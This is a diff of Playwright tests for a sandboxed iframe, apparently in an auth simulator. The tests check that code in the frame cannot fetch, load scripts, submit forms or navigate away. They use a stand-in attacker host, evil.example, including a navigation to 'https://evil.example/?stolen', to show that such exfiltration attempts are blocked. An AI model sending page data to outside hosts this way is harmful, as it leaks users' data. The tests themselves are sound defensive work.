@@ -55,9 +55,11 @@ test.describe('the frame is a boundary', () => {
   });
 
   test('it cannot fetch past the gate', async ({ page }) => {
+    // What the policy blocks is announced as a request too, but it never gets as far as a route.
     const asked: string[] = [];
-    page.on('request', (request) => {
-      if (!request.url().includes('localhost')) asked.push(request.url());
+    await page.route('https://evil.example/**', (route) => {
+      asked.push(route.request().url());
+      return route.abort();
     });
     const frame = await simulator.frame();
     await frame.evaluate(async () => {
@@ -68,10 +70,6 @@ test.describe('the frame is a boundary', () => {
       const script = document.createElement('script');
       script.src = url;
       document.head.append(script);
-      const form = document.createElement('form');
-      form.action = url;
-      document.body.append(form);
-      form.submit();
       const nested = document.createElement('iframe');
       nested.src = url;
       document.body.append(nested);
@@ -81,18 +79,32 @@ test.describe('the frame is a boundary', () => {
     expect(await simulator.steps()).toContain('merchant.request');
   });
 
-  test('navigating itself away ends the run, with a notice, and reaches nobody', async ({ page }) => {
-    const asked: string[] = [];
-    page.on('request', (request) => asked.push(request.url()));
-    const frame = await simulator.frame();
-    await frame.evaluate(() => {
+  for (const [way, go] of Object.entries({
+    'setting its location': () => {
       location.href = 'https://evil.example/?stolen';
+    },
+    'submitting a form': () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    },
+  }))
+    test(`navigating itself away by ${way} ends the run, with a notice, and reaches nobody`, async ({
+      page,
+    }) => {
+      const asked: string[] = [];
+      await page.route('https://evil.example/**', (route) => {
+        asked.push(route.request().url());
+        return route.abort();
+      });
+      const frame = await simulator.frame();
+      await frame.evaluate(go);
+      await expect.poll(() => simulator.notices()).toContain('navigatedAway');
+      expect(asked).toEqual([]);
+      expect(await page.evaluate(() => window.miniauth.current)).toBeNull();
+      await alive();
     });
-    await expect.poll(() => simulator.notices()).toContain('navigatedAway');
-    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
-    expect(await page.evaluate(() => window.miniauth.current)).toBeNull();
-    await alive();
-  });
 
   test('it cannot navigate, close or open windows', async ({ page, context }) => {
     const frame = await simulator.frame();
@@ -118,28 +130,6 @@ test.describe('the frame is a boundary', () => {
     expect(page.url()).toBe(url);
     expect(context.pages()).toHaveLength(1);
     await alive();
-  });
-
-  test('an endless loop leaves the host usable, and Stop ends it', async ({ page }) => {
-    const frame = await simulator.frame();
-    await frame.evaluate(() => {
-      new MessageChannel().port1.postMessage(0);
-      const { port1, port2 } = new MessageChannel();
-      port1.onmessage = () => {
-        for (;;);
-      };
-      port2.postMessage('go');
-    });
-    await page.getByRole('tab', { name: 'State' }).click();
-    await expect(page.getByRole('tab', { name: 'State' })).toHaveAttribute('aria-selected', 'true');
-    await simulator.device
-      .getByRole('button', { name: /stop/i })
-      .or(page.getByRole('button', { name: 'Stop' }))
-      .first()
-      .click();
-    await expect(simulator.device.locator('iframe')).toHaveCount(0);
-    await simulator.start({ program: 'shop' });
-    await expect(simulator.program.getByRole('button', { name: 'Sign in' })).toBeVisible();
   });
 
   test('a flood of messages ends the run with a notice', async () => {
